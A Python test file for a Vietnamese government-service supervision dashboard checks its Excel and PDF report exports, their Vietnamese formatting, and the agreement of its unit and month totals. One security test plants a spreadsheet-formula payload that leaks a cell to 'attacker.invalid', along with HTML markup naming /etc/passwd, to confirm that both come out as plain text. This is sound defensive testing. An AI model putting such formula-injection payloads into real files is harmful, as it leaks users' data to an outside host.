"""The dashboard's report (issue 17): the Excel workbook and the PDF hold the figures the page
shows, in Vietnamese (headers, dd/mm/yyyy, decimal comma in the PDF), whatever the page's
language; and the figures of the units below and of the months, each summed in one query, equal
the indicators' report asked unit by unit and month by month."""

from __future__ import annotations

import datetime
import io
import re

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader
from reportlab.lib.colors import HexColor
from reportlab.lib.rl_accel import fp_str

from motcua.accounts.demo import CITY_SUPERVISOR, ensure_city_supervisor
from motcua.accounts.models import User
from motcua.organizations.models import Unit
from motcua.supervision.charts import COLOURS
from motcua.supervision.compute import Period, Scope, counts
from motcua.supervision.dashboard import Tree, dashboard
from motcua.supervision.rollup import catch_up
from tests.dossiers.conftest import POLICE, Staff, decided, received

pytestmark = pytest.mark.django_db
MARCH = "from=01/03/2026&to=31/03/2026"


def city_supervisor(language: str = "vi") -> Client:
    ensure_city_supervisor("mat-khau-thu")
    client = Client()
    client.force_login(User.objects.get(username=CITY_SUPERVISOR))
    client.cookies["motcua_language"] = language
    return client


def rows_of(workbook: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def row_named(rows: list[list[object]], label: str) -> list[object]:
    return next(row for row in rows if row and row[0] == label)


def test_the_workbook_holds_the_pages_figures_in_vietnamese(staff: Staff) -> None:
    late = received(staff, "2026-03-02 09:00")
    decided(staff, "2026-03-03 09:00")
    client = city_supervisor("en")
    page = client.get(f"/giam-sat/?unit={POLICE}&{MARCH}").content.decode()
    assert 'data-figure="on-time">50.00 %<' in page  # English separators on an English page
    assert "Download the Excel report" in page
    answer = client.get(f"/giam-sat/bao-cao.xlsx?unit={POLICE}&{MARCH}")
    assert answer.status_code == 200
    assert "attachment" in answer["Content-Disposition"]
    rows = rows_of(answer.content)
    assert rows[0][0] == "Báo cáo giám sát giải quyết thủ tục hành chính"
    assert any(row[0] == "Kỳ báo cáo: Từ 01/03/2026 đến 31/03/2026" for row in rows)
    assert row_named(rows, "Tỷ lệ hồ sơ giải quyết đúng hạn (2.1)")[1] == 50.0
    assert row_named(rows, "Số hồ sơ trễ hạn")[1] == 1
    assert row_named(rows, "Chỉ tiêu")[:2] == ["Chỉ tiêu", "Giá trị"]
    assert row_named(rows, late.code)[3] == "02/03/2026"


def test_the_pdf_is_vietnamese_text_with_the_same_figures(staff: Staff) -> None:
    received(staff, "2026-03-02 09:00")
    decided(staff, "2026-03-03 09:00")
    answer = city_supervisor().get(f"/giam-sat/bao-cao.pdf?unit={POLICE}&{MARCH}")
    assert answer.status_code == 200
    assert answer.content.startswith(b"%PDF")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages)
    text = re.sub(r"\s+", " ", text)
    for expected in ("Báo cáo giám sát", "Từ 01/03/2026 đến 31/03/2026", "50,00 %",
                     "Công an phường Hoàn Kiếm", "Hồ sơ trễ hạn"):  # fmt: skip
        assert expected in text, expected


# ------------------------------------------------------------------ grouped = asked one by one
DAY = datetime.timedelta(days=1)
when = st.tuples(st.integers(0, 1), st.integers(0, 120), st.integers(0, 1), st.booleans())


@settings(
    max_examples=12, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
@given(
    lives=st.lists(when, min_size=1, max_size=5),
    first=st.dates(datetime.date(2026, 2, 1), datetime.date(2026, 5, 31)),
    days=st.integers(0, 150),
)
def test_units_and_months_equal_the_report_asked_one_by_one(
    staff: Staff, lives: list[tuple[int, int, int, bool]], first: datetime.date, days: int
) -> None:
    from django.db import transaction

    from motcua.dossiers.services import (
        Applicant,
        dossier_approve,
        dossier_forward,
        dossier_receive,
        dossier_submit,
    )
    from tests import factories
    from tests.dossiers.conftest import at, residence

    with transaction.atomic():
        police = Unit.objects.get(code=POLICE)
        sibling = (
            Unit.objects.filter(parent=police.parent).exclude(pk=police.pk).order_by("code")[0]
        )
        people = {police.pk: (staff.reception, staff.specialist, staff.leader)}
        people[sibling.pk] = tuple(
            factories.officer(sibling.code, r) for r in ("reception", "specialist", "leader")
        )  # type: ignore[assignment]
        for which, offset, channel, finished in lives:
            unit = (police, sibling)[which]
            reception, specialist, leader = people[unit.pk]
            moment = at("2026-02-02 09:00") + offset * DAY
            dossier = dossier_submit(
                procedure=residence(), receiving_unit=unit, at=moment,
                applicant=Applicant("Đỗ Văn Nam", "001090022222"), actor=reception,
                channel=("counter", "online")[channel],
            )  # fmt: skip
            dossier = dossier_receive(dossier=dossier, actor=reception, at=moment)
            if finished:
                dossier = dossier_forward(dossier=dossier, actor=specialist, at=moment + 3 * DAY)
                dossier_approve(dossier=dossier, actor=leader, at=moment + 6 * DAY, note="Đủ")
        catch_up()
        period = Period(first, first + days * DAY)
        now = at("2026-12-01 12:00")
        tree = Tree()
        parent = tree.nodes[police.parent_id]  # type: ignore[index]
        dash = dashboard(period=period, tree=tree, node=parent, allowed=None, at=now)
        start, until = period.bounds(now)
        for row in dash.rows:
            assert row.counts == counts(Scope(unit_ids=frozenset(row.units)), start, until)
        seen = {row.node.pk for row in dash.rows}
        for unit in (police, sibling):
            if counts(Scope(unit_ids=frozenset({unit.pk})), start, until).handled:
                assert unit.pk in seen
        for month in dash.months:
            first_day, last_day = Period(month.start, month.end).bounds(now)
            expected = counts(Scope(unit_ids=frozenset(tree.below(parent.pk))), first_day, last_day)
            assert (month.counts.judged, month.counts.on_time, month.counts.received,
                    month.counts.online) == (expected.judged, expected.on_time, expected.received,
                                             expected.online)  # fmt: skip
        transaction.set_rollback(True)


FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Xem")'
MARKUP = 'Phường <img src="/etc/passwd"/> a <b>x & y'


def test_names_are_text_in_the_workbook_and_in_the_pdf(staff: Staff) -> None:
    """QA: a procedure's or a unit's name is never a formula in Excel nor markup in the PDF."""
    late = received(staff, "2026-03-02 09:00")
    late.procedure.__class__.objects.filter(pk=late.procedure_id).update(name=FORMULA)
    Unit.objects.filter(pk=late.deciding_unit_id).update(name=MARKUP)
    client = city_supervisor()
    answer = client.get(f"/giam-sat/bao-cao.xlsx?unit={POLICE}&{MARCH}")
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    answer = client.get(f"/giam-sat/bao-cao.pdf?unit={POLICE}&{MARCH}")
    assert answer.status_code == 200
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages)
    assert "<b>x & y" in re.sub(r"\s+", " ", text)


def test_the_pdf_draws_the_dashboards_charts(staff: Staff) -> None:
    """The charts of the page (on-time and online share by month, the units ranked), drawn in
    the PDF as vector graphics with their labels as text: no browser, no script."""
    received(staff, "2026-03-02 09:00")
    decided(staff, "2026-03-03 09:00")
    police = Unit.objects.get(code=POLICE)
    answer = city_supervisor().get(f"/giam-sat/bao-cao.pdf?unit={police.parent.code}&{MARCH}")
    assert answer.status_code == 200
    pages = PdfReader(io.BytesIO(answer.content)).pages
    text = re.sub(r"\s+", " ", " ".join(page.extract_text() for page in pages))
    for expected in ("Biểu đồ", "Tỷ lệ đúng hạn theo tháng", "Tỷ lệ nộp trực tuyến theo tháng",
                     "Xếp hạng đơn vị theo tỷ lệ đúng hạn", "0 % 50 % 100 %", "03/2026"):  # fmt: skip
        assert expected in text, expected
    # The ranking's bar label: the ward police and its rate, beside the bar.
    assert re.search(r"Công an phường Hoàn Kiếm 50,00 %", text), text
    drawn = b"".join(page.get_contents().get_data() for page in pages)  # type: ignore[union-attr]
    # The bars: rectangles filled in the page's blue and red, as ReportLab writes a fill colour.
    for colour in COLOURS:
        assert f"{fp_str(*HexColor(colour).rgb())} rg".encode() in drawn, colour
